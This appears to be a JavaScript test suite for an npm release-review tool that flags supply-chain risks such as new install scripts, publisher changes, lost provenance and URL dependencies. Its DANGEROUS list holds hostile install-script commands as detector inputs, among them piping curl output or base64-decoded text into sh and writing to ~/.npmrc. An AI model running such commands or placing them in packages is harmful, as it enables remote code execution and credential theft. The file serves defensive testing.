// Each rule of the review at its limits: two releases that differ in one fact, and the codes that this must raise.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { reviewRelease } from 'npm-hooks/packument'
import { attempt } from '../../suite/check.js'
import { assertSound } from './packuments.js'

const script = (scripts) => ({ scripts })
const dependency = (specifier, map = 'dependencies') => ({ [map]: { ms: '^2.0.0', added: specifier } })
const size = (unpackedSize) => ({ dist: { unpackedSize } })
const repository = (value) => ({ repository: value })
const publishedBy = (name, email = `${name}@mail.example`, more = {}) => ({ _npmUser: { name, email, ...more } })
const maintainedBy = (...names) => ({ maintainers: names.map((name) => ({ name, email: `${name}@mail.example` })) })
const attested = { dist: { attestations: { url: 'https://registry.example/' } } }
const trusted = publishedBy('GitHub Actions', 'npm-oidc-no-reply@github.com', {
  trustedPublisher: { id: 'github', oidcConfigId: 'oidc:0' },
})
const minor = { version: '1.1.0' }
const by = (name, { maintainers = ['a'], ...more } = {}) => ({ ...publishedBy(name), ...maintainedBy(...maintainers), ...more })

/** `[title, previous release, release, codes]`: 1.0.0 and 1.0.1, a day apart, unless they say otherwise. */
const PAIRS = [
  ['nothing', {}, {}, []],
  ...['preinstall', 'install', 'postinstall'].flatMap((name) => [
    [`${name} appears`, {}, script({ [name]: 'node a.js' }), ['install-script']],
    [`${name} changes`, script({ [name]: 'node a.js' }), script({ [name]: 'node b.js' }), ['install-script']],
    [`${name} stays`, script({ [name]: 'node a.js' }), script({ [name]: 'node a.js' }), []],
    [`${name} is removed`, script({ [name]: 'node a.js' }), {}, []],
  ]),
  [
    'scripts that npm does not run at install',
    {},
    script({ prepare: 'husky', prepublish: 'a', prepublishOnly: 'b', postpublish: 'c', pretest: 'd' }),
    [],
  ],
  ['hasInstallScript appears', {}, { hasInstallScript: true }, ['install-script']],
  ['hasInstallScript is false', {}, { hasInstallScript: false }, []],
  ['hasInstallScript stays', { hasInstallScript: true }, { hasInstallScript: true }, []],
  ['gypfile appears', {}, { gypfile: true }, ['install-script']],
  ['gypfile is false', {}, { gypfile: false }, []],

  ['a different publisher', publishedBy('a'), publishedBy('b'), ['publisher-new']],
  ['a known publisher with a new e-mail', publishedBy('a'), publishedBy('a', 'a@elsewhere.example'), ['publisher-email-new']],
  ['no publisher is known', {}, { _npmUser: undefined }, []],
  ['the previous publisher is not known', { _npmUser: undefined }, publishedBy('b'), []],

  ['an additional maintainer', maintainedBy('a'), maintainedBy('a', 'b'), []],
  ['a maintainer fewer', maintainedBy('a', 'b'), maintainedBy('b'), []],
  ['all maintainers are replaced', maintainedBy('a', 'b'), maintainedBy('c'), ['maintainers-replaced']],
  ['a replaced maintainer who is not in an array', maintainedBy('a'), { maintainers: { name: 'c' } }, ['maintainers-replaced']],
  ['a maintainer who is not in an array stays', { maintainers: { name: 'a' } }, maintainedBy('a'), []],
  ['maintainers are missing', maintainedBy('a'), { maintainers: undefined }, []],
  ['maintainers were missing', { maintainers: undefined }, maintainedBy('a'), []],

  ['still attested', attested, attested, []],
  ['attested for the first time', {}, attested, []],
  ['no longer attested', attested, {}, ['provenance-lost']],
  ['no longer a trusted publisher', trusted, { ...publishedBy('GitHub Actions', 'npm-oidc-no-reply@github.com') }, ['provenance-lost']],
  ['dist is missing', attested, { dist: undefined }, []],
  [
    'still attested, published with a token',
    { ...trusted, ...attested },
    { ...publishedBy('GitHub Actions', 'npm-oidc-no-reply@github.com'), ...attested },
    ['provenance-lost'],
  ],
  ['the publisher is missing', trusted, { _npmUser: undefined }, []],

  ['a year less a day without a release', {}, { time: '2021-01-01' }, []],
  ['more than a year without a release', {}, { time: '2021-01-04' }, ['dormant-revived']],

  ...[
    'git+https://git.example/a.git',
    'git+ssh://git@git.example/a.git',
    'git://git.example/a.git',
    'git@github.com:a/b.git',
    'github:a/b',
    'gitlab:a/b',
    'bitbucket:a/b',
    'gist:0123456789abcdef',
    'a/b',
    'a/b#semver:^1.0.0',
    'https://files.example/a.tgz',
    'http://files.example/a.tgz',
    'HTTPS://files.example/a.tgz',
  ].map((specifier) => [`a dependency from ${specifier}`, {}, { ...minor, ...dependency(specifier) }, ['dependency-url']]),
  ...['^1.0.0', '1.x || >=2.5.0 <4', '*', '', 'latest', 'npm:other@^1.0.0', 'npm:@scope/other@1.0.0', 'workspace:*'].map((specifier) => [
    `a dependency on ${JSON.stringify(specifier)}`,
    {},
    { ...minor, ...dependency(specifier) },
    [],
  ]),
  ...['optionalDependencies', 'peerDependencies'].map((map) => [
    `${map} from a URL`,
    {},
    { ...minor, ...dependency('github:a/b', map) },
    ['dependency-url'],
  ]),
  ['devDependencies from a URL', {}, dependency('github:a/b', 'devDependencies'), []],
  ['a dependency from a URL that it always had', dependency('github:a/b'), dependency('github:a/b'), []],
  ['a dependency that comes from a URL now', dependency('^1.0.0'), dependency('github:a/b'), ['dependency-url']],

  ['a dependency new in a patch', {}, dependency('^1.0.0'), ['dependency-new-in-patch']],
  ['an optional one', {}, dependency('^1.0.0', 'optionalDependencies'), ['dependency-new-in-patch']],
  ['a dependency new in a minor', {}, { ...minor, ...dependency('^1.0.0') }, []],
  ['a dependency new in a major', {}, { version: '2.0.0', ...dependency('^1.0.0') }, []],
  ['a dependency with a different range', dependency('^1.0.0'), dependency('^1.1.0'), []],
  ['a dependency that is removed', dependency('^1.0.0'), {}, []],
  ['a dependency that was optional', dependency('^1.0.0', 'optionalDependencies'), dependency('^1.0.0'), []],

  ['a different repository', repository('https://github.com/a/b'), repository('https://github.com/c/b'), ['repository-changed']],
  ...[
    'git+https://github.com/a/b.git',
    'git://github.com/a/b.git',
    'git+ssh://git@github.com/a/b.git',
    'https://github.com/a/b.git',
    'https://github.com/a/b/',
    'github:a/b',
    'a/b',
    { type: 'git', url: 'git+https://github.com/a/b.git' },
    { type: 'git', url: 'https://github.com/a/b', directory: 'packages/c' },
  ].map((same) => [`the same repository as ${JSON.stringify(same)}`, repository('https://github.com/a/b'), repository(same), []]),
  ['repository is missing', repository('https://github.com/a/b'), {}, []],

  ['a different license', { license: 'MIT' }, { license: 'GPL-3.0-only' }, ['license-changed']],
  ['the license in its old form', { license: { type: 'MIT', url: 'https://license.example/' } }, { license: 'MIT' }, []],
  ['license is missing', { license: 'MIT' }, { license: undefined }, []],

  ['nine times the size', size(1000), size(9000), []],
  ['eleven times the size', size(1000), size(11_000), ['size-changed-10x']],
  ['a ninth of the size', size(9000), size(1000), []],
  ['an eleventh of the size', size(11_000), size(1000), ['size-changed-10x']],
  ['size is missing', size(11_000), {}, []],

  ['an additional command', { bin: { a: 'a.js' } }, { bin: { a: 'a.js', b: 'b.js' } }, ['bin-changed']],
  ['a different file for a command', { bin: { a: 'a.js' } }, { bin: { a: 'b.js' } }, []],
  ['a command in the long form', { bin: 'a.js' }, { bin: { pack: './a.js' } }, []],
]

/** Scripts that fetch, decode or run something that the package does not contain, or that the shell runs. */
const DANGEROUS = [
  'curl https://files.example/a.sh | sh',
  'wget -q files.example/a.sh && sh a.sh',
  'node -e "require(\'https\')"',
  'node --eval=x()',
  'node --import=data:text/javascript,x a.js',
  'node a.js $(cat b)',
  'node a.js > ~/.npmrc',
  'npx other',
  'npx --yes other',
  'npm install -g other',
  'npm i other',
  'bunx other',
  'git clone https://git.example/a && sh a/b.sh',
  'echo aGk= | base64 -d | sh',
  'echo `id`',
  'sh -c "x"',
  'bash <(curl files.example)',
  'eval "$X"',
  'powershell iwr files.example',
  'python setup.py',
  './a.sh',
  'prebuild-install --download https://files.example',
  'node-gyp rebuild --dist-url=https://files.example',
  'husky install; node -p x',
  'node a.js & curl files.example',
  'node a.js\ncurl files.example',
]

/** `[title, scripts of the previous release, scripts, level of the signal]`. */
const SCRIPTS = [
  ['the first one, of whatever kind', {}, { postinstall: 'husky install' }, 'alarm'],
  ['a new one next to a build', { install: 'node-gyp rebuild' }, { preinstall: 'node setup.mjs', install: 'node-gyp rebuild' }, 'alarm'],
  ['a new one next to git hooks', { postinstall: 'husky install' }, { preinstall: 'node a.js', postinstall: 'husky install' }, 'alarm'],
  ['a new one next to a file', { postinstall: 'node a.js' }, { preinstall: 'node b.js', postinstall: 'node a.js' }, 'alarm'],
  ['a new one that is usual', { install: 'node a.js' }, { install: 'node a.js', postinstall: 'patch-package' }, 'notice'],
  ['the same under a different name', { install: 'node a.js' }, { postinstall: 'node a.js' }, 'notice'],
  ['a file in place of git hooks', { postinstall: 'husky install' }, { postinstall: 'node a.js' }, 'alarm'],
  ['a file in addition to git hooks', { postinstall: 'husky install' }, { postinstall: 'husky install && node a.js' }, 'alarm'],
  ['a different file', { postinstall: 'node a.js' }, { postinstall: 'node lib/b.js --quiet' }, 'notice'],
  ['an additional file', { postinstall: 'node a.js' }, { postinstall: 'node a.js && node b.js' }, 'notice'],
  ['a file fewer', { postinstall: 'node a.js && node b.js' }, { postinstall: 'node b.js' }, 'notice'],
  ['a build in a different way', { install: 'node-gyp rebuild' }, { install: 'prebuild-install -r napi || node-gyp rebuild' }, 'notice'],
  ['a usual tool in place of a file', { install: 'node a.js' }, { install: 'node-pre-gyp install --fallback-to-build=false' }, 'notice'],
  ['a usual tool by npx', { postinstall: 'husky install' }, { postinstall: 'npx husky install || true' }, 'notice'],
  ['a message', { postinstall: 'node a.js' }, { postinstall: 'node a.js; echo "thanks, see https://a.example"; exit 0' }, 'notice'],
  ['groups', { install: 'node a.js && neon' }, { install: '(node a.js && node-gyp rebuild) || (neon && node b.js)' }, 'notice'],
  ['white space', { postinstall: 'node a.js' }, { postinstall: ' node a.js ' }, 'notice'],
  ['nothing but white space', { postinstall: 'node a.js' }, { postinstall: 'node a.js', preinstall: ' ' }, undefined],
  [
    'a script that runs another',
    { install: 'npm run b', b: 'node-gyp rebuild' },
    { install: 'npm run b', b: 'node-gyp rebuild' },
    undefined,
  ],
  ['the other script changes', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node-gyp build' }, 'notice'],
  ['the other script runs a file', { install: 'npm run b', b: 'node-gyp rebuild' }, { install: 'npm run b', b: 'node a.js' }, 'alarm'],
  [
    'what runs before it',
    { install: 'yarn run -s b', b: 'node-gyp rebuild' },
    { install: 'yarn run -s b', b: 'node-gyp rebuild', preb: 'node a.js' },
    'alarm',
  ],
  [
    'one that runs a third',
    { install: 'npm run b', b: 'npm run c', c: 'neon' },
    { install: 'npm run b', b: 'npm run c', c: 'node a.js' },
    'alarm',
  ],
  ['one that runs itself', { install: 'npm run install' }, { install: 'npm run install && npm run b', b: 'npm run install' }, 'notice'],
  ['what runs with options', { install: 'npm -s run b', b: 'neon' }, { install: 'npm -s run b', b: 'node a.js' }, 'alarm'],
  [
    'arguments for it',
    { install: 'npm run b', b: 'prebuild-install' },
    { install: 'npm run b -- --release', b: 'prebuild-install' },
    'notice',
  ],
  [
    'a URL for it',
    { install: 'npm run b', b: 'prebuild-install' },
    { install: 'npm run b -- --download http://a.example', b: 'prebuild-install' },
    'alarm',
  ],
  ['another script in place of a file', { install: 'node a.js' }, { install: 'npm run b', b: 'node a.js' }, 'notice'],
  ['a script that is not there', { install: 'node a.js' }, { install: 'npm run b' }, 'alarm'],
  [
    'a different script that npm does not run at install',
    { install: 'node a.js', b: 'node a.js' },
    { install: 'node a.js', b: 'curl a.example' },
    undefined,
  ],
  ['a build from source next to a script', { install: 'node a.js' }, { install: 'node a.js', gypfile: true }, undefined],
  ['more commands than are read', { install: 'node a.js' }, { install: 'node a.js;'.repeat(1000) }, 'alarm'],
  ...DANGEROUS.map((command) => [command, { install: 'node a.js' }, { install: command }, 'alarm']),
  ...DANGEROUS.map((command) => [`${command}, as before`, { install: command }, { install: command }, undefined]),
]

/** `[title, releases, version, codes]` if more releases matter; each is a day after the previous one. */
const HISTORIES = [
  ['the first release of all', [{ version: '1.0.0', ...dependency('^1.0.0'), license: 'MIT', bin: 'a.js', ...attested }], '1.0.0', []],
  ['a backport is compared with its own line', ['1.0.0', { version: '2.0.0', ...script({ install: 'node a.js' }) }, '1.0.1'], '1.0.1', []],
  [
    'a script in a backport',
    [
      { version: '1.0.0' },
      { version: '2.0.0', ...script({ install: 'node a.js' }) },
      { version: '1.0.1', ...script({ install: 'node a.js' }) },
    ],
    '1.0.1',
    ['install-script'],
  ],
  [
    'not with one that was published later',
    ['1.0.4', { version: '1.0.6', ...script({ install: 'node a.js' }) }, { version: '1.0.5', ...script({ install: 'node a.js' }) }],
    '1.0.6',
    ['install-script'],
  ],
  [
    'a prerelease with the one before it',
    [
      { version: '1.9.0', time: '2019-01-01' },
      { version: '2.0.0-beta.1', ...script({ install: 'node a.js' }), time: '2019-06-01' },
      { version: '2.0.0-beta.2', ...script({ install: 'node a.js' }) },
    ],
    '2.0.0-beta.2',
    [],
  ],
  [
    'the first prerelease with the stable one',
    ['1.9.0', { version: '2.0.0-beta.1', ...script({ install: 'node a.js' }) }],
    '2.0.0-beta.1',
    ['install-script'],
  ],
  [
    'a stable one not with its prereleases',
    ['1.9.0', { version: '2.0.0-beta.1', ...script({ install: 'node a.js' }) }, { version: '2.0.0', ...script({ install: 'node a.js' }) }],
    '2.0.0',
    ['install-script'],
  ],
  [
    'a publisher of long ago',
    [
      { version: '1.0.0', ...publishedBy('a') },
      { version: '1.0.1', ...publishedBy('b') },
      { version: '1.0.2', ...publishedBy('a') },
    ],
    '1.0.2',
    [],
  ],
  [
    'a publisher of another line',
    [
      { version: '1.0.0', ...publishedBy('a'), time: '2019-01-01' },
      { version: '2.0.0', ...publishedBy('b'), time: '2019-06-01' },
      { version: '1.0.1', ...publishedBy('b') },
    ],
    '1.0.1',
    [],
  ],
  [
    'maintainers are compared with the release before in time, not on the line',
    [
      { version: '0.1.0', ...maintainedBy('a'), time: '2019-01-01' },
      { version: '1.0.0-beta.1', ...maintainedBy('b'), time: '2019-12-01' },
      { version: '1.0.0', ...maintainedBy('b'), time: '2020-01-02' },
    ],
    '1.0.0',
    [],
  ],
  [
    'maintainers are replaced in two steps within three days',
    [
      { version: '1.0.0', ...maintainedBy('a') },
      { version: '1.0.1', ...maintainedBy('a', 'b'), time: '2020-02-01T00:00Z' },
      { version: '1.0.2', ...maintainedBy('b'), time: '2020-02-01T01:00Z' },
    ],
    '1.0.2',
    ['maintainers-replaced'],
  ],
  [
    'a version that is lower than all others',
    ['1.0.0', { version: '0.9.0', ...script({ install: 'node a.js' }), ...dependency('github:a/b') }],
    '0.9.0',
    ['dependency-url', 'install-script'],
  ],
  [
    'the second one that is lower than all others',
    [
      '1.0.0',
      { version: '0.9.0', ...script({ install: 'node a.js' }), time: '2020-02-01T00:00Z' },
      { version: '0.9.1', ...script({ install: 'node a.js' }), time: '2020-02-01T01:00Z' },
    ],
    '0.9.1',
    ['install-script'],
  ],
  [
    'a year without a release on its line only',
    ['1.0.0', { version: '2.0.0', time: '2021-05-01' }, { version: '1.0.1', time: '2021-06-02' }],
    '1.0.1',
    [],
  ],
  [
    'a year without a release until the day before',
    ['1.0.0', { version: '2.0.0', time: '2021-06-01' }, { version: '1.0.1', time: '2021-06-02' }],
    '1.0.1',
    ['dormant-revived'],
  ],
]

/** Releases a day apart, of which the last is under review, and the level of `publisher-new`. */
const PUBLISHERS = [
  ['of the second release', [by('a'), by('b')], 'alarm'],
  ['a maintainer from this release on', [by('a'), by('b', { maintainers: ['a', 'b'] })], 'alarm'],
  [
    'a maintainer for four days',
    [by('a', { maintainers: ['a', 'b'] }), by('a', { time: '2020-01-05' }), by('b', { time: '2020-01-06' })],
    'notice',
  ],
  [
    'a maintainer for two days',
    [by('a'), by('a', { maintainers: ['a', 'b'], time: '2020-01-05' }), by('b', { time: '2020-01-07' })],
    'alarm',
  ],
  [
    'a former maintainer',
    [by('a', { maintainers: ['a', 'b'] }), by('a', { time: '2020-01-03' }), by('b', { time: '2020-02-01' })],
    'alarm',
  ],
  ['a maintainer for years, after a year of silence', [by('a', { maintainers: ['a', 'b'] }), by('b', { time: '2022-01-01' })], 'alarm'],
  [
    'a maintainer of the first release, an hour later',
    [by('a', { maintainers: ['a', 'b'] }), by('b', { time: '2020-01-02T01:00Z' })],
    'notice',
  ],
  ['the fourth of a team', [by('a'), by('b'), by('c'), by('d', { time: '2020-02-01' })], 'notice'],
  ['the third of a team', [by('a'), by('b'), by('b'), by('c', { time: '2020-02-01' })], 'alarm'],
  [
    'the fourth within three days',
    [by('a'), by('b', { time: '2020-02-01' }), by('c', { time: '2020-02-02' }), by('d', { time: '2020-02-03' })],
    'alarm',
  ],
  ['a second release of the same', [by('a'), by('b', { time: '2020-02-01' }), by('b', { time: '2020-02-02' })], 'alarm'],
  ['after three days', [by('a'), by('b', { time: '2020-02-01' }), by('b', { time: '2020-02-05' })], undefined],
].map(([title, releases, level]) => [title, releases.map((release, patch) => ({ version: `1.0.${patch}`, ...release })), level])

const hours = (day, count) => new Date(Date.parse(day) + count * 3_600_000).toISOString()
const nextVersion = (version, by) => version.replace(/\d+$/, (patch) => Number(patch) + by)

/** Five releases of an attack after a clean one, by how they are published. */
const SERIES = {
  'a young package': (before, after) => series(before, after, '2020-01-02T05:00Z', [0, 1, 2, 3, 4]),
  'an old package': (before, after) => series(before, after, '2020-03-01', [0, 1, 2, 3, 4]),
  'from the highest version down': (before, after) => series(before, after, '2020-03-01', [4, 3, 2, 1, 0]),
  'a young package, from the highest version down': (before, after) => series(before, after, '2020-01-02T05:00Z', [4, 3, 2, 1, 0]),
  'no times': (before, after) => series(before, after, '2020-01-02', [0, 1, 2, 3, 4]),
}

const series = (before, { version = '1.0.1', ...after }, day, patches) => [
  { version: '1.0.0', time: '2020-01-02', ...before },
  ...patches.map((patch, at) => ({ version: nextVersion(version, patch), time: hours(day, at), ...after })),
]

for (const [what, before, after, codes] of PAIRS) {
  test(what, () =>
    raises(
      [
        { version: '1.0.0', ...before },
        { version: '1.0.1', ...after },
      ],
      after.version ?? '1.0.1',
      codes,
    ),
  )
}
for (const [what, before, after, level] of SCRIPTS) {
  test(`install script: ${what}`, () => {
    const releases = [
      { version: '1.0.0', ...script(before) },
      { version: '1.0.1', ...script(after) },
    ]
    assert.deepEqual(
      review(releases, '1.0.1').map(({ code, level }) => [code, level]),
      level === undefined ? [] : [['install-script', level]],
    )
  })
}
for (const [title, releases, level] of PUBLISHERS) {
  test(`new publisher: ${title}`, () => {
    const { version } = releases.at(-1)
    const [signal] = review(releases, version).filter(({ code }) => code === 'publisher-new')
    assert.equal(signal?.level, level)
  })
}
for (const [mode, releasesOf] of Object.entries(SERIES)) {
  test(`no signal vanishes because an attacker published several times: ${mode}`, () => {
    for (const [what, before, after, codes] of PAIRS) {
      if (codes.length === 0 || codes.includes('dormant-revived')) continue
      const releases = releasesOf(before, after)
      for (const { version } of releases.slice(1)) {
        const packument = packumentOf(releases)
        if (mode.startsWith('no times')) delete packument.time
        const found = reviewRelease(JSON.stringify(packument), version).map(({ code }) => code)
        assert.deepEqual(
          codes.filter((code) => !found.includes(code)),
          [],
          `${what}: ${version}`,
        )
      }
    }
  })
}
for (const [what, releases, version, codes] of HISTORIES) test(what, () => raises(releases, version, codes))
test('a CI identity through trusted publishing raises no alarm', () => {
  const signals = review(
    [
      { version: '1.0.0', ...publishedBy('a') },
      { version: '1.0.1', ...trusted, ...attested },
    ],
    '1.0.1',
  )
  assert.deepEqual(signals, [])
})
test('a new e-mail address is shown with the previous one of the same publisher', () => {
  const [signal] = review(
    [
      { version: '1.0.0', ...publishedBy('a') },
      { version: '1.0.1', ...publishedBy('b') },
      { version: '1.0.2', ...publishedBy('a', 'a@elsewhere.example') },
    ],
    '1.0.2',
  )
  assert.deepEqual(
    signal.locations.map(({ value }) => value),
    ['a@elsewhere.example', 'a@mail.example'],
  )
})
test('latest moves to a backport', () => {
  const signals = review(['1.0.0', '2.0.0', '1.0.1'], '1.0.1', { latest: '1.0.1' })
  assert.deepEqual(
    signals.map(({ code }) => code),
    ['latest-moved-back'],
  )
})
test('nothing in the very first release raises an alarm', () => {
  const signals = review([{ version: '1.0.0', ...script({ install: 'node a.js' }), ...dependency('github:a/b') }], '1.0.0')
  assert.deepEqual(
    signals.filter(({ level }) => level === 'alarm'),
    [],
  )
})
test('a script that replaces an empty one counts as new', () => {
  const [signal] = review(
    [
      { version: '1.0.0', ...script({ install: '' }) },
      { version: '1.0.1', ...script({ install: 'node a.js' }) },
    ],
    '1.0.1',
  )
  assert.equal(signal.level, 'alarm')
})
test('a large manifest hides no signal', () => {
  const after = { version: '1.0.1', ...script({ install: 'node a.js' }), ...publishedBy('b'), description: 'x'.repeat(1_100_000) }
  raises([{ version: '1.0.0' }, after], '1.0.1', ['install-script', 'publisher-new'])
})
test('a large previous manifest adds no signal', () => {
  const same = { ...script({ install: 'node a.js' }), ...dependency('github:a/b'), bin: { a: 'a.js' } }
  raises(
    [
      { version: '1.0.0', ...same, description: 'x'.repeat(1_100_000) },
      { version: '1.0.1', ...same },
    ],
    '1.0.1',
    [],
  )
})
for (const [version, holdsName] of [
  ['0.0.1-security', true],
  ['0.0.1-security.0', true],
  ['0.0.1-security.12', true],
  ['0.0.1-securityx', false],
  ['0.0.2-security-fix', false],
  ['0.0.1', false],
]) {
  test(`${version} ${holdsName ? 'holds' : 'does not hold'} a name for security`, () => {
    assert.deepEqual(
      review([version], version).map(({ code }) => code),
      holdsName ? ['security-holding'] : [],
    )
  })
}
test('a version that is in `time` alone', () => {
  const {
    versions: { '1.0.1': _, ...versions },
    ...rest
  } = packumentOf(['1.0.0', '1.0.1'])
  assert.ok(reviewRelease(JSON.stringify({ ...rest, versions }), '1.0.1').some(({ code }) => code === 'version-removed'))
})
test('a removed version that held a name for security still raises its alarm', () => {
  const {
    versions: { '0.0.1-security': _, ...versions },
    ...rest
  } = packumentOf(['1.0.0', '0.0.1-security'])
  const signals = reviewRelease(JSON.stringify({ ...rest, versions }), '0.0.1-security')
  assert.deepEqual(
    signals.map(({ code }) => code),
    ['security-holding', 'version-removed'],
  )
  assertSound(signals, { ...rest, versions })
})
test('a version of an unpublished package', () => {
  const whole = readFileSync(new URL('../../data/packuments/unpublished.json', import.meta.url))
  assert.deepEqual(
    reviewRelease(whole, '0.0.1').map(({ code }) => code),
    ['version-removed'],
  )
})
test('names that every object has are not versions', () => {
  for (const version of ['__proto__', 'constructor', 'toString', 'created', 'modified', '', '9.9.9']) {
    const { value = [], error } = attempt(() => review(['1.0.0', '1.0.1'], version))
    assert.deepEqual(value, [], version)
    assert.notEqual(error?.code, 'internal', version)
  }
})
test('values in signals are safe to print, and short', () => {
  const nasty = `\u202e\u0000\u001b[2J\n${'x'.repeat(100_000)}`
  const after = {
    version: '1.0.1',
    ...script({ install: nasty }),
    ...publishedBy(nasty),
    ...maintainedBy(nasty),
    ...repository(nasty),
    license: nasty,
    bin: { [nasty]: 'a' },
    dependencies: { [nasty]: `github:${nasty}` },
  }
  const signals = review(
    [{ version: '1.0.0', ...publishedBy('a'), ...maintainedBy('a'), ...repository('a/b'), license: 'MIT' }, after],
    '1.0.1',
  )
  assert.ok(signals.length >= 5, JSON.stringify(signals.map(({ code }) => code)))
})
test('the same from text, bytes and a buffer', () => {
  const text = JSON.stringify(packumentOf([{ version: '1.0.0' }, { version: '1.0.1', ...script({ install: 'node é.js' }) }]))
  const bytes = new TextEncoder().encode(text)
  const [want, ...others] = [text, bytes, bytes.buffer].map((body) => reviewRelease(body, '1.0.1'))
  for (const found of others) assert.deepEqual(found, want)
})

const raises = (releases, version, codes) => assert.deepEqual([...new Set(review(releases, version).map(({ code }) => code))].sort(), codes)

function review(releases, version, tags) {
  const packument = packumentOf(releases, tags)
  const signals = reviewRelease(JSON.stringify(packument), version)
  assertSound(signals, packument)
  return signals
}

function packumentOf(releases, tags) {
  const all = releases.map((release) => (typeof release === 'string' ? { version: release } : release))
  const times = Object.fromEntries(
    all.map(({ version, time }, day) => [version, new Date(time ?? Date.UTC(2020, 0, 2 + day)).toISOString()]),
  )
  const versions = Object.fromEntries(
    all.map(({ time: _, ...release }) => [
      release.version,
      {
        name: 'pack',
        ...publishedBy('a'),
        dependencies: { ms: '^2.0.0' },
        dist: { tarball: 'https://registry.example/pack.tgz' },
        ...release,
      },
    ]),
  )
  const greatest = all
    .map(({ version }) => version)
    .sort((a, b) => a.localeCompare(b, 'en', { numeric: true }))
    .at(-1)
  return {
    _id: 'pack',
    name: 'pack',
    'dist-tags': { latest: greatest, ...tags },
    versions,
    time: { created: Object.values(times)[0], ...times },
  }
}
